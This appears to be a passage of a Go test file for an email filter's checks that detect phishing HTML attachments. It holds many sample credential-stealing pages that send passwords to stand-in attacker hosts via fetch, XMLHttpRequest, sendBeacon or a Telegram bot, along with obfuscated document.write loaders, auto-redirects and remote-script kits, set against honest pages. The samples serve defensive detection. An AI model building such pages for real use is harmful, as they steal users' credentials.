package heuristic

import (
	"context"
	"encoding/base64"
	"slices"
	"strings"
	"testing"

	"github.com/kensa-milter/kensa/message"
	"github.com/kensa-milter/kensa/urls"
)

// pageAttach is an HTML attachment named name.
func pageAttach(name, s string) *message.Message { return attach(htmlPart("2", s, named(name))) }

// percentAll writes every byte of s as %XX, as kits feed unescape.
func percentAll(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		b.WriteString("%" + strings.ToUpper(hex2(s[i])))
	}
	return b.String()
}

// hexEscapes writes every byte of s as \xXX inside a JavaScript string.
func hexEscapes(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		b.WriteString(`\x` + hex2(s[i]))
	}
	return b.String()
}

func hex2(c byte) string { return string("0123456789abcdef"[c>>4]) + string("0123456789abcdef"[c&15]) }

func charCodes(s string) string {
	var parts []string
	for _, r := range s {
		parts = append(parts, itoa(int(r)))
	}
	return strings.Join(parts, ",")
}

const (
	loginInputs = `<h2>Sign in</h2><input type="email" id="u" placeholder="Email"><input type="password" id="p"><button id="go">Sign in</button>`
	fetchSend   = `<script>document.getElementById("go").onclick=function(){fetch("https://collect.attacker.example/c.php",{method:"POST",body:JSON.stringify({u:u.value,p:p.value})});};</script>`
)

// htmlPhishCases are TestChecks' samples for the HTML phishing checks:
// each trick a kit uses, and the honest pages beside them.
func htmlPhishCases() map[string][]sample {
	written := `<form action="https://collect.attacker.example/owa"><input name=u><input type=password name=p></form>`
	b64 := base64.StdEncoding.EncodeToString([]byte(written))
	cases := map[string][]sample{
		"html-credential-form": {
			// 1. no form: the password leaves by script
			{"fetch, no form", pageAttach("Fax_Document.html", loginInputs+fetchSend), "2"},
			{"XMLHttpRequest", pageAttach("a.html", loginInputs+`<script>function s(){var x=new XMLHttpRequest();x.open("POST","https://collect.attacker.example/x");x.send("p="+p.value);}</script>`), "2"},
			{"jQuery ajax", pageAttach("a.html", loginInputs+`<script>$("#go").click(function(){$.ajax({url:"https://collect.attacker.example/a",type:"POST",data:{p:$("#p").val()}});});</script>`), "2"},
			{"jQuery post", pageAttach("a.html", loginInputs+`<script>$("#go").click(function(){$.post("https://collect.attacker.example/a",{p:$("#p").val()});});</script>`), "2"},
			{"sendBeacon", pageAttach("a.html", loginInputs+`<script>go.onclick=()=>navigator.sendBeacon("https://collect.attacker.example/b",p.value)</script>`), "2"},
			{"telegram bot", pageAttach("a.html", loginInputs+`<script>go.onclick=()=>{var t="https://api.telegram.org/bot123456:AAF-kensa/sendMessage?chat_id=1&text="+encodeURIComponent(p.value);new Image().src=t;}</script>`), "2"},
			{"form action set by script", pageAttach("a.html", `<form id="f" action=""><input name=u><input type=password name=p><button>Go</button></form><script>document.getElementById("f").action = "https://collect.attacker.example/f";</script>`), "2"},
			{"fetch URL in pieces", pageAttach("a.html", loginInputs+`<script>var h="https://coll"+"ect.attacker.example";go.onclick=function(){fetch(h+"/c",{method:"POST",body:p.value})}</script>`), "2"},
			// forms pointed and submitted by script
			{"button formAction set by script", pageAttach("a.html", `<form action=""><input type=password name=p><button id=b>Go</button></form><script>document.getElementById("b").formAction = ["https:", "", "collect.attacker.example", "f"].join("/");</script>`), "2"},
			{"setAttribute in upper case", pageAttach("a.html", `<form id=f><input type=password name=p></form><script>f.setAttribute("ACTION", "https://collect.attacker.example/f"); f.requestSubmit();</script>`), "2"},
			{"jQuery attr", pageAttach("a.html", `<form id=f><input type=password name=p></form><script>$("#f").attr("action", "https://" + "collect.attacker.example/f").submit();</script>`), "2"},
			{"attributes.action.value", pageAttach("a.html", `<form id=f><input type=password name=p></form><script>f.attributes.action.value = "https://collect.attacker.example/f"; document.forms[0].submit();</script>`), "2"},
			{"form built by script", pageAttach("a.html", loginInputs+`<script>go.onclick = function(){ var f = document.createElement("form"); f.method = "POST"; f.setAttributeNS(null, "action", "https://collect.attacker.example/f"); document.body.appendChild(f); f.submit(); };</script>`), "2"},
			// 2. the page is written by script
			{"document.write unescape", pageAttach("Remittance.htm", `<script>document.write(unescape('`+percentAll(written)+`'));</script>`), "2"},
			{"document.write atob", pageAttach("a.html", `<script>document.write(atob("`+b64+`"))</script>`), "2"},
			{"decodeURIComponent escape atob", pageAttach("a.html", `<script>var d="`+b64+`";document.write(decodeURIComponent(escape(window.atob(d))));</script>`), "2"},
			{"innerHTML hex escapes", pageAttach("a.html", `<div id=x></div><script>document.getElementById("x").innerHTML = "`+hexEscapes(written)+`";</script>`), "2"},
			{"char-code array", pageAttach("a.html", `<script>var c=[`+charCodes(written)+`];document.write(c.map(function(n){return String.fromCharCode(n)}).join(""));</script>`), "2"},
			{"fromCharCode apply", pageAttach("a.html", `<script>document.body.innerHTML=String.fromCharCode(`+charCodes(written)+`)</script>`), "2"},
			{"unescape percent-u", pageAttach("a.html", `<script>document.write(unescape("%u003Cform action=%u0022https://collect.attacker.example/u%u0022%3E%3Cinput type=password%3E%3C/form%3E"))</script>`), "2"},
			{"large written page", pageAttach("a.html", `<script>document.write(unescape('`+percentAll(`<div style="background:url(data:image/png;base64,`+strings.Repeat("QUJD", 25000)+`)"></div>`+written)+`'));</script>`), "2"},
			{"img onerror writes the page", pageAttach("a.html", `<img src="x" onerror="document.body.innerHTML=atob('`+b64+`')">`), "2"},
			{"two layers", pageAttach("a.html", `<script>document.write(unescape("`+percentAll(`<script>document.write(atob("`+b64+`"))</`+`script>`)+`"))</script>`), "2"},
			{"written login, script sends", pageAttach("a.html", `<script>document.write(atob("`+base64.StdEncoding.EncodeToString([]byte(loginInputs))+`"))</script>`+fetchSend), "2"},
			{"iframe srcdoc", pageAttach("a.html", `<iframe srcdoc="`+strings.ReplaceAll(written, `"`, "&quot;")+`" style="width:100%;height:100%"></iframe>`), "2"},
			{"template literal", pageAttach("a.html", "<script>document.body.innerHTML = `"+written+"`;</script>"), "2"},
			// 3. attribute tricks
			{"duplicate type, password first", pageAttach("a.html", `<form action="https://collect.attacker.example/d"><input type=password type=text></form>`), "2"},
			{"type PASSWORD", pageAttach("a.html", `<form action="https://collect.attacker.example/d"><input type=PASSWORD></form>`), "2"},
			{"entity in type", pageAttach("a.html", `<form action="https://collect.attacker.example/d"><input type="pass&#119;ord"></form>`), "2"},
			{"entities in action", pageAttach("a.html", `<form action="&#104;ttps&#58;//collect.attacker.example/d"><input type=password></form>`), "2"},
			{"text-security inline", pageAttach("a.html", `<form action="https://collect.attacker.example/d"><input type=text name=p style="-webkit-text-security: disc"></form>`), "2"},
			{"text-security stylesheet", pageAttach("a.html", `<style>.pw{-webkit-text-security:circle}</style><form action="https://collect.attacker.example/d"><input class=pw name=p></form>`), "2"},
			{"base href", pageAttach("a.html", `<base href="https://collect.attacker.example/kit/"><form action="post.php" method=post><input type=password name=p></form>`), "2"},
			{"button formaction", pageAttach("a.html", `<form action=""><input type=password name=p><button formaction="https://collect.attacker.example/b">Go</button></form>`), "2"},
			{"body duplicate type", body(`<form action="https://collect.attacker.example/p"><input type=password type=text></form>`), "1"},
			// honest pages
			{"duplicate type, text first", pageAttach("a.html", `<form action="https://collect.attacker.example/d"><input type=text type=password></form>`), ""},
			{"spaced type is text", pageAttach("a.html", `<form action="https://collect.attacker.example/d"><input type=" password"></form>`), ""},
			{"analytics fetch, no password", pageAttach("report.html", `<h1>Q3 report</h1><form action="https://reports.example.com/feedback"><input name=comment></form><script>fetch("https://stats.example.net/hit?p=report")</script>`), ""},
			{"password page, nothing sends", pageAttach("a.html", `<input type=password id=p><script>p.focus()</script>`), ""},
			{"written markup, no password", pageAttach("a.html", `<script>document.write(unescape('`+percentAll(`<p>Thank you for your order</p>`)+`'))</script>`), ""},
			{"body script does not run", body(`<form action=""><input type=password></form><script>fetch("https://collect.attacker.example/")</script>`), ""},
			{"text-security none", pageAttach("a.html", `<form action="https://collect.attacker.example/d"><input type=text style="-webkit-text-security: none"></form>`), ""},
		},
		"html-redirect-attachment": {
			{"meta refresh", pageAttach("Voicemail.html", `<html><head><meta http-equiv="refresh" content="0;url=https://landing.attacker.example/v"></head><body>Loading...</body></html>`), "2"},
			{"meta refresh without url=", pageAttach("a.html", `<meta http-equiv=REFRESH content="1; https://landing.attacker.example/v">`), "2"},
			{"meta refresh quoted, comma", pageAttach("a.html", `<meta http-equiv="Refresh" content="0, URL='https://landing.attacker.example/v'">`), "2"},
			{"meta refresh in a zip", zipWith(htmlPart("2/a.zip/fax.html", `<meta http-equiv="refresh" content="0;url=https://landing.attacker.example/v">`, named("fax.html"))), "2/a.zip/fax.html"},
			{"window.location", pageAttach("a.html", `<p>Please wait</p><script>window.location = "https://landing.attacker.example/?e=victim@example.com";</script>`), "2"},
			{"location.replace", pageAttach("a.html", `<script>location.replace('https://landing.attacker.example/r')</script>`), "2"},
			{"location.href in setTimeout, small page", pageAttach("a.html", `<script>setTimeout(function(){ window.location.href = "https://landing.attacker.example/t"; }, 800);</script>`), "2"},
			{"location by bracket and atob", pageAttach("a.html", `<script>window['loc'+'ation']['href'] = atob("`+base64.StdEncoding.EncodeToString([]byte("https://landing.attacker.example/b"))+`");</script>`), "2"},
			{"body onload", pageAttach("a.html", `<body onload="location.href='https://landing.attacker.example/o'">`+strings.Repeat("<p>Lorem ipsum dolor sit amet.</p>", 100)+`</body>`), "2"},
			{"written meta refresh", pageAttach("a.html", `<script>document.write(unescape('`+percentAll(`<meta http-equiv="refresh" content="0;url=https://landing.attacker.example/w">`)+`'))</script>`), "2"},
			{"full-window iframe", pageAttach("a.html", `<body style="margin:0"><iframe src="https://landing.attacker.example/f" width="100%" height="100%" frameborder=0></iframe></body>`), "2"},
			{"iframe styled to fill", pageAttach("a.html", `<iframe src="https://landing.attacker.example/f" style="position:fixed; top:0; left:0; bottom:0; right:0; border:none"></iframe>`+strings.Repeat("<p>Lorem ipsum dolor sit amet.</p>", 100)), "2"},
			{"window.open in the same window", pageAttach("a.html", `<script>window.open("https://landing.attacker.example/s", "_self")</script>`), "2"},
			{"location from joined pieces", pageAttach("a.html", `<script>location.replace(["https:", "", "landing.attacker.example", "j"].join("/"))</script>`), "2"},
			{"location from a template", pageAttach("a.html", "<script>const h = 'landing.attacker' + '.example';\nwindow.location.href = `https://${h}/t`;</script>"), "2"},
			{"location from appends", pageAttach("a.html", "<script>var u = 'https://landing.';\nu += 'attacker.example/a';\nlocation.href = u;</script>"), "2"},
			{"img onerror", pageAttach("a.html", strings.Repeat("<p>Lorem ipsum dolor sit amet.</p>", 100)+`<img src=x onerror="window.location='https://landing.attacker.example/e'">`), "2"},
			{"frame on an empty page", pageAttach("a.html", `<iframe src="https://landing.attacker.example/e" width="900" height="700"></iframe>`), "2"},
			{"frameset", pageAttach("a.html", `<frameset rows="100%"><frame src="https://landing.attacker.example/fs"></frameset>`), "2"},
			{"named function called", pageAttach("a.html", `<script>function go(u){ location.replace(u) }
function start(){ go2(); }
function go2(){ window.location.href = "https://landing.attacker.example/n"; }
start();</script>`), "2"},
			{"named function on a timer", pageAttach("a.html", strings.Repeat("<p>Lorem ipsum dolor sit amet.</p>", 100)+`<script>function go(){ location.href = "https://landing.attacker.example/t" } setTimeout(go, 500);</script>`), "2"},
			{"load listener", pageAttach("a.html", strings.Repeat("<p>Lorem ipsum dolor sit amet.</p>", 100)+`<script>window.addEventListener("load", () => { location.assign("https://landing.attacker.example/l") })</script>`), "2"},
			{"immediately called", pageAttach("a.html", strings.Repeat("<p>Lorem ipsum dolor sit amet.</p>", 100)+`<script>(function(){ top.location = "https://landing.attacker.example/i" })();</script>`), "2"},
			{"script from the kit's host", pageAttach("Remittance.html", `<html><head><title>Document</title></head><body><script src="https://cdn.kit.attacker.example/assets/x.js"></script></body></html>`), "2"},
			{"library, then the kit", pageAttach("a.html", `<script src="https://code.jquery.com/jquery-3.7.1.min.js"></script><script>var e = "victim@example.com";</script><script src="https://kit.attacker.example/p.php?e=victim@example.com"></script><noscript>Enable JavaScript</noscript>`), "2"},
			{"kit from jsDelivr's GitHub paths", pageAttach("a.html", `<div id=app></div><script src="https://cdn.jsdelivr.net/gh/someone/kit@main/app.js"></script>`), "2"},
			{"script element built from base64", pageAttach("a.html", `<script>var s = document.createElement("script"); s.src = atob("`+base64.StdEncoding.EncodeToString([]byte("https://kit.attacker.example/k.js"))+`"); document.head.appendChild(s);</script>`), "2"},
			{"fetched and written", pageAttach("a.html", `<p>Loading...</p><script>fetch("https://kit.attacker.example/page").then(r => r.text()).then(h => document.write(h))</script>`), "2"},
			{"XMLHttpRequest into the body", pageAttach("a.html", `<script>var x = new XMLHttpRequest(); x.open("GET", "https://kit.attacker.example/p"); x.onload = function(){ document.body.innerHTML = x.responseText }; x.send();</script>`), "2"},
			{"jQuery get into html()", pageAttach("a.html", `<script src="https://code.jquery.com/jquery-3.7.1.min.js"></script><script>$.get("https://kit.attacker.example/p", function(d){ $("body").html(d) })</script>`), "2"},
			{"jQuery load", pageAttach("a.html", `<script src="https://ajax.googleapis.com/ajax/libs/jquery/3.7.1/jquery.min.js"></script><script>$("body").load("https://kit.attacker.example/p")</script>`), "2"},
			{"fetched and run", pageAttach("a.html", `<script>(async () => { eval(await (await fetch("https://kit.attacker.example/k")).text()) })()</script>`), "2"},
			{"padding hidden by CSS", pageAttach("a.html", `<div style="display: none">`+strings.Repeat("<div><p>Lorem ipsum dolor sit amet.</p></div>", 100)+`</div><script src="https://kit.attacker.example/x.js"></script>`), "2"},
			{"padding in hidden and tiny elements", pageAttach("a.html", `<p hidden>`+strings.Repeat("Lorem ipsum dolor sit amet. ", 20)+`</p><span style="FONT-SIZE: 0px">`+strings.Repeat("Lorem ipsum dolor sit amet. ", 20)+`</span><noscript>`+strings.Repeat("Lorem ipsum dolor sit amet. ", 20)+`</noscript><script src="https://kit.attacker.example/x.js"></script>`), "2"},
			{"padding hidden by a class", pageAttach("a.html", `<html><head><style>body{margin:0} .pad { color: #333; DISPLAY: none } #f{font-size:0}</style></head><body><div class="x pad">`+strings.Repeat("<div><p>Lorem ipsum dolor sit amet.</p></div>", 50)+`</div><p id=f>`+strings.Repeat("Lorem ipsum dolor sit amet. ", 20)+`</p><script src="https://kit.attacker.example/x.js"></script></body></html>`), "2"},
			{"frame over hidden padding", pageAttach("a.html", `<div style="opacity:0">`+strings.Repeat("Lorem ipsum dolor sit amet. ", 20)+`</div><iframe src="https://landing.attacker.example/e" width="900" height="700"></iframe>`), "2"},
			{"script written by script", pageAttach("a.html", `<script>document.write(unescape('`+percentAll(`<script src="https://kit.attacker.example/w.js"></script>`)+`'))</script>`), "2"},
			// honest pages
			{"function only a click calls", pageAttach("a.html", `<button onclick="go()">Open</button><script>function go(){ location.href = "https://shop.example.com/" }</script>`), ""},
			{"body meta refresh", body(`<meta http-equiv="refresh" content="0;url=https://landing.attacker.example/">`), ""},
			{"refresh to itself", pageAttach("a.html", `<meta http-equiv="refresh" content="300">`), ""},
			{"refresh, relative", pageAttach("a.html", `<meta http-equiv="refresh" content="0;url=page2.html">`), ""},
			{"refresh after an hour", pageAttach("a.html", `<meta http-equiv="refresh" content="3600;url=https://www.example.com/">`), ""},
			{"click handler on a long page", pageAttach("newsletter.html", strings.Repeat("<p>News of the month, with pictures and stories.</p>", 60)+`<button onclick="location.href='https://shop.example.com/'">Shop</button><script>function more(){ location.href = "https://shop.example.com/more"; }</script>`), ""},
			{"video embed in a long page", pageAttach("newsletter.html", strings.Repeat("<p>News of the month, with pictures and stories.</p>", 60)+`<iframe src="https://video.example.net/embed/1" width="560" height="315"></iframe>`), ""},
			{"links only", pageAttach("receipt.html", `<p>Receipt</p><a href="https://shop.example.com/orders/1">Your order</a>`), ""},
			{"window.open in a new window", pageAttach("a.html", `<script>window.open("https://landing.attacker.example/s", "_blank")</script>`+strings.Repeat("<p>Lorem ipsum dolor sit amet.</p>", 100)), ""},
			{"mailto", pageAttach("a.html", `<script>location.href = "mailto:help@example.com"</script>`), ""},
			{"chart exported with its library", pageAttach("chart.html", `<html><head><meta charset="utf-8"></head><body><div id="plot" style="height:100%"></div><script src="https://cdn.plot.ly/plotly-2.35.2.min.js"></script><script>Plotly.newPlot("plot", [{"x": [1, 2, 3], "y": [4, 1, 7]}])</script></body></html>`), ""},
			{"Google Charts report", pageAttach("report.html", `<script src="https://www.gstatic.com/charts/loader.js"></script><div id="c"></div><script>google.charts.load("current", {packages: ["corechart"]})</script>`), ""},
			{"saved web page with its scripts", pageAttach("page.html", strings.Repeat("<p>News of the month, with pictures and stories.</p>", 10)+`<script src="https://www.example.com/static/site.js"></script><script>(function(w,d,s){var j=d.createElement(s);j.src="https://www.googletagmanager.com/gtm.js?id=GTM-X";d.head.appendChild(j)})(window,document,"script")</script>`), ""},
			{"npm package from jsDelivr", pageAttach("demo.html", `<div id=map></div><script src="https://cdn.jsdelivr.net/npm/leaflet@1.9.4/dist/leaflet.js"></script>`), ""},
			{"body with a script", body(`<p>Hi</p><script src="https://kit.attacker.example/x.js"></script>`), ""},
			{"page text around a hidden part", pageAttach("page.html", strings.Repeat("<p>News of the month, with pictures and stories.</p>", 6)+`<div style="display:none"><p>Thanks</p></div>`+strings.Repeat("<p>More news of the month.</p>", 4)+`<script src="https://www.example.com/static/site.js"></script>`), ""},
			{"text of a class a style sheet shows", pageAttach("page.html", `<style>.hide{display:none} .story{font-size:14px}</style><div class="story">`+strings.Repeat("Lorem ipsum dolor sit amet. ", 20)+`</div><script src="https://www.example.com/static/site.js"></script>`), ""},
			{"half-transparent text counts", pageAttach("page.html", `<div style="opacity:0.5">`+strings.Repeat("Lorem ipsum dolor sit amet. ", 20)+`</div><script src="https://www.example.com/static/site.js"></script>`), ""},
			{"JSON fetched, own markup written", pageAttach("a.html", `<div id=kpi></div><script>document.getElementById("kpi").innerHTML = "<b>Sales</b>"; fetch("https://api.shop.example.com/v2/sales").then(r => r.json()).then(d => console.log(d))</script>`), ""},
			{"fetch of a library host only", pageAttach("a.html", `<div id=t></div><script>fetch("https://cdn.jsdelivr.net/npm/some-data@1/data.json").then(r => r.text()).then(t => { document.getElementById("t").innerHTML = t })</script>`), ""},
		},
	}
	// loaders padded with text the reader does not see, and honest pages
	// hiding a little (htmlvisible_test.go, held to Chromium)
	for _, c := range paddingTricks() {
		cases["html-redirect-attachment"] = append(cases["html-redirect-attachment"], sample{"padding: " + c.name, pageAttach("Document.html", c.page), "2"})
	}
	for _, c := range honestTwins() {
		cases["html-redirect-attachment"] = append(cases["html-redirect-attachment"], sample{"saved page: " + c.name, pageAttach("page.html", c.page), ""})
	}
	return cases
}

func TestRefreshTarget(t *testing.T) {
	// As Chromium 1xx on Debian 12 navigated (or not) from a file:// page.
	for _, c := range []struct{ content, want string }{
		{"0;url=https://a.example/", "https://a.example/"},
		{"0; URL='https://a.example/'", "https://a.example/"},
		{"0,url=https://a.example/", "https://a.example/"},
		{"0;https://a.example/", "https://a.example/"},
		{"0 https://a.example/", "https://a.example/"},
		{"1.5;url=https://a.example/", "https://a.example/"},
		{"-1;url=https://a.example/", ""},
		{"0x;url=https://a.example/", ""},
		{"5", ""},
	} {
		if got := refreshTarget(c.content); got != c.want {
			t.Errorf("refreshTarget(%q) = %q, want %q", c.content, got, c.want)
		}
	}
}

func TestDecodeJS(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`unescape("%3Cb%3E%u0041")`, `"<b>A"`},
		{`decodeURIComponent(escape(atob("w6k8Yj4=")))`, `"é<b>"`},
		{`atob('PGI+')`, `"<b>"`},
		{`decodeURIComponent("%E2%82%AC")`, `"€"`},
		{`decodeURIComponent("%E2%82")`, `decodeURIComponent("%E2%82")`}, // throws in a browser
		{`atob("!!")`, `atob("!!")`},
		{`atob("` + base64.StdEncoding.EncodeToString([]byte("elpmaxe.live//:sptth")) + `").split("").reverse().join("")`, `"https://evil.example"`},
		{`decodeURIComponent(escape(atob("` + base64.StdEncoding.EncodeToString([]byte("hxxps://evil[.]example")) + `"))).replace("xx", "tt").replace("[.]", ".")`, `"https://evil.example"`},
	} {
		if got := decodeJS(c.in); got != c.want {
			t.Errorf("decodeJS(%s) = %s, want %s", c.in, got, c.want)
		}
	}
	markup, web := scriptStrings(`x = "a < b"; document.write("<p>" + y + "</p>"); location = "https:\/\/a.example/x?u=" + u; `+
		`fetch('http://b.example/p'); z = "see https://c.example/"; w = "<a href='https://d.example/'>"; v = 'HTTPS://e.example'`, 10)
	if markup != "<p></p><a href='https://d.example/'>" {
		t.Errorf("scriptStrings markup = %q", markup)
	}
	if want := []string{"https://a.example/x?u=", "http://b.example/p", "see https://c.example/", "HTTPS://e.example"}; strings.Join(web, " ") != strings.Join(want, " ") {
		t.Errorf("scriptStrings web addresses = %q, want %q", web, want)
	}
	if _, web := scriptStrings(`a = "https://a.example/"; b = "https://b.example/"`, 1); len(web) != 1 {
		t.Errorf("scriptStrings kept %d web addresses, want 1", len(web))
	}
}

func TestActivePage(t *testing.T) {
	for _, c := range []struct {
		html string
		want bool
	}{
		{`<p>Hello</p><table style="x"><tr><td>on=1</td></tr></table>`, false},
		{`<p>Contact us on Monday; prices on request.</p><a href="https://example.com/?on=1">x</a>`, false},
		{`<p title="a onclick=b">x</p>`, true}, // over-reads: the page is read, nothing more
		{`<img alt=">" onerror="go()">`, true},
		{`<img src="x"onerror="go()">`, true},
		{`<img src=x onerror="go()">`, true},
		{`<img src=x/onerror=go()>`, true},
		{`<DIV ONMOUSEOVER = "x">`, true},
		{`<Script>x</script>`, true},
		{`<meta charset=utf-8><meta name="viewport" content="width=device-width">`, false},
		{`<META HTTP-EQUIV="Refresh" content="0;url=x">`, true},
		{`<iframe src=x>`, true},
	} {
		e := newEnv(context.Background(), body(c.html), Options{})
		if got := e.activePage(e.m.Parts[0]); got != c.want {
			t.Errorf("activePage(%s) = %v, want %v", c.html, got, c.want)
		}
		e.release()
	}
}

// TestWrittenPageURLs: the links an HTML attachment's scripts write go
// through the URL checks as the page's own links do, and say so; a body's
// scripts are not read.
func TestWrittenPageURLs(t *testing.T) {
	lookalike := `<p>Your mailbox is full.</p><a href="https://secure-paypal-login.com/verify">Review your account</a>`
	blocked := `<a href="https://www.evil.example/statement.php">View statement</a>`
	for _, c := range []struct {
		name, id string
		m        *message.Message
		part     string // "" when the check must not fire
	}{
		{"atob lookalike", "lookalike-domain", pageAttach("Invoice.html", `<script>document.write(atob('`+base64.StdEncoding.EncodeToString([]byte(lookalike))+`'))</script>`), "2"},
		{"unescape blocklisted", "blocklisted-url", pageAttach("Remittance.htm", `<script>document.write(unescape('`+percentAll(blocked)+`'));</script>`), "2"},
		{"two layers", "blocklisted-url", pageAttach("a.html", `<script>document.write(unescape("`+percentAll(`<script>document.write(atob("`+base64.StdEncoding.EncodeToString([]byte(blocked))+`"))</`+`script>`)+`"))</script>`), "2"},
		{"innerHTML hex escapes", "lookalike-domain", pageAttach("a.html", `<div id=x></div><script>document.getElementById("x").innerHTML = "`+hexEscapes(lookalike)+`";</script>`), "2"},
		{"iframe srcdoc", "blocklisted-url", pageAttach("a.html", `<iframe srcdoc="`+strings.ReplaceAll(blocked, `"`, "&quot;")+`"></iframe>`), "2"},
		{"written link text mismatch", "link-text-brand-mismatch", pageAttach("a.html", `<script>document.write(atob('`+base64.StdEncoding.EncodeToString([]byte(`<a href="https://files.attacker.example/o">https://www.microsoft.com/</a>`))+`'))</script>`), "2"},
		{"body is not run", "blocklisted-url", body(`<script>document.write(unescape('` + percentAll(blocked) + `'));</script>`), ""},
		{"honest written link", "lookalike-domain", pageAttach("a.html", `<script>document.write(atob('`+base64.StdEncoding.EncodeToString([]byte(`<a href="https://www.paypal.com/">PayPal</a>`))+`'))</script>`), ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			if c.part != "" && len(AllURLs(c.m)) == 0 {
				t.Errorf("AllURLs (kensa scan's list) has not the written link")
			}
			checkSourced(t, c.m, c.id, c.part, "(page written by script)")
		})
	}
}

// checkSourced scans m and requires finding id on part with a detail
// ending in source, or, when part is "", no finding id at all.
func checkSourced(t *testing.T, m *message.Message, id, part, source string) {
	t.Helper()
	f := find(scan(t, newScanner(t), m), id)
	switch {
	case part == "" && f != nil:
		t.Errorf("unexpected %s: %s", id, f.Detail)
	case part == "":
	case f == nil:
		t.Errorf("no %s finding", id)
	case f.Part != part || !strings.HasSuffix(f.Detail, source):
		t.Errorf("%s on part %q: %q, want part %q, ending %q", id, f.Part, f.Detail, part, source)
	}
}

// TestWrittenPageURLsBounded: the page's own links and its written ones
// share one bound, and a link in both is the page's own.
func TestWrittenPageURLsBounded(t *testing.T) {
	var many strings.Builder
	for i := range urls.MaxPerPart + 50 {
		many.WriteString(`<a href="https://h` + itoa(i) + `.example/">x</a>`)
	}
	own := `<a href="https://www.evil.example/a">a</a>`
	m := pageAttach("a.html", own+`<script>document.write(unescape('`+percentAll(own+many.String())+`'))</script>`)
	e := newEnv(context.Background(), m, Options{})
	defer e.release()
	u := e.partURLs(m.Parts[1])
	if len(u) != urls.MaxPerPart {
		t.Errorf("%d URLs, want %d", len(u), urls.MaxPerPart)
	}
	if w := e.written[m.Parts[1]]; w != [3]int{1, urls.MaxPerPart, urls.MaxPerPart} {
		t.Errorf("written URLs at %v, want [1 %d %d]", w, urls.MaxPerPart, urls.MaxPerPart)
	}
}

// TestScriptURLs: the web addresses an HTML attachment's decoded script
// goes to or sends to (a location set from atob or unescape, a fetch, a
// window.open, $.post) go through the URL checks as links of the part,
// and say so; an honest redirect gets no URL finding, and a body's
// scripts are not read.
func TestScriptURLs(t *testing.T) {
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	login := `<form><input type=email name=u><input type=password name=p><button>Sign in</button></form>`
	for _, c := range []struct {
		name, id string
		m        *message.Message
		part     string // "" when the check must not fire
	}{
		{"atob location to blocklisted", "blocklisted-url", pageAttach("Fax.html", `<p>Loading...</p><script>window.location.href = atob('`+b64("https://www.evil.example/fax/?id=1")+`');</script>`), "2"},
		{"unescape replace to blocklisted", "blocklisted-url", pageAttach("a.htm", `<script>window.location.replace(unescape('`+percentAll("https://www.evil.example/r")+`'))</script>`), "2"},
		{"fetch to lookalike", "lookalike-domain", pageAttach("Login.html", login+`<script>document.forms[0].onsubmit = function(ev){ ev.preventDefault(); fetch(atob('`+b64("https://secure-paypal-login.com/api/collect")+`'), {method: 'POST', body: new FormData(this)}); };</script>`), "2"},
		{"$.post pieces to ip", "ip-url", pageAttach("a.html", login+`<script>$("form").submit(function(){ $.post('http://' + '198.51.100.' + '7/gate.php', $(this).serialize()); return false; });</script>`), "2"},
		{"window.open char codes to DNSBL-listed", "dnsbl-url", pageAttach("a.html", `<script>window.open(String.fromCharCode(`+charCodes("https://go.listed.example/x")+`), '_self')</script>`), "2"},
		{"userinfo in written script", "userinfo-url", pageAttach("a.html", `<script>document.write(atob('`+b64(`<script>location = unescape("`+percentAll("https://www.microsoft.com@198.51.100.7/login")+`")</`+`script>`)+`'))</script>`), "2"},
		// addresses built from pieces (constant folding)
		{"joined with a slash, to lookalike", "lookalike-domain", pageAttach("a.html", `<script>setTimeout(function(){ location.replace(["https:", "", "secure-paypal-login.com", "signin"].join("/")) }, 100)</script>`), "2"},
		{"array in a variable, to lookalike", "lookalike-domain", pageAttach("a.html", "<script>var p = ['https:', '', 'secure-paypal-login.com', 'signin'];\nsetTimeout(function(){ location.href = p.join('/'); }, 10);</script>"), "2"},
		{"template of a variable, to blocklisted", "blocklisted-url", pageAttach("a.html", "<script>var h = 'www.evil' + '.example';\nwindow.location.href = `https://${h}/fax/`;</script>"), "2"},
		{"concat, to ip", "ip-url", pageAttach("a.html", login+`<script>document.forms[0].onsubmit = function(){ fetch("http://".concat("198.51.100.", "7", "/gate.php"), {method: "POST", body: new FormData(this)}); return false; };</script>`), "2"},
		{"appended atob, to DNSBL-listed", "dnsbl-url", pageAttach("a.html", `<script>var u = "";`+"\n"+`u = atob('`+b64("https://")+`');`+"\n"+`u += 'go.listed' + '.example/x';`+"\n"+`location.href = u;</script>`), "2"},
		{"reversed, to blocklisted", "blocklisted-url", pageAttach("a.html", `<script>location = "xaf/elpmaxe.live.www//:sptth".split("").reverse().join("");</script>`), "2"},
		{"declaration list, to userinfo", "userinfo-url", pageAttach("a.html", "<script>var s = 'https://www.microsoft.com', t = '@198.51.100.7/login';\nlocation.assign(s + t);</script>"), "2"},
		// an address inside longer text
		{"in a JSON config, to lookalike", "lookalike-domain", pageAttach("a.html", login+`<script>var cfg = JSON.parse(atob('`+b64(`{"gate":"https://secure-paypal-login.com/api/collect","retry":2}`)+`')); document.forms[0].onsubmit = function(){ fetch(cfg.gate, {method: "POST", body: new FormData(this)}); return false; };</script>`), "2"},
		{"in a sentence, to blocklisted", "blocklisted-url", pageAttach("a.html", `<script>alert(unescape("`+percentAll("Your session expired. Sign in again at https://www.evil.example/login.")+`"));</script>`), "2"},
		{"honest redirect", "lookalike-domain", pageAttach("a.html", `<script>location.href = atob('`+b64("https://www.paypal.com/signin")+`')</script>`), ""},
		{"honest pieces", "lookalike-domain", pageAttach("a.html", `<script>location.href = ["https:", "", "www.paypal.com", "signin"].join("/")</script>`), ""},
		{"honest redirect, no ip", "ip-url", pageAttach("a.html", `<script>location.href = atob('`+b64("https://www.paypal.com/signin")+`')</script>`), ""},
		{"body is not run", "blocklisted-url", body(`<script>window.location.href = atob('` + b64("https://www.evil.example/fax/") + `');</script>`), ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			checkSourced(t, c.m, c.id, c.part, "(in the page's script)")
			if c.part != "" && !slices.ContainsFunc(AllURLs(c.m), func(u urls.URL) bool { return u.Source == urls.SourceScript }) {
				t.Errorf("AllURLs (kensa scan's list) has not the script's address")
			}
		})
	}
}

// TestScriptURLsHonestSender: a page that sends the reader to the sender's
// own site has no URL finding at all.
func TestScriptURLsHonestSender(t *testing.T) {
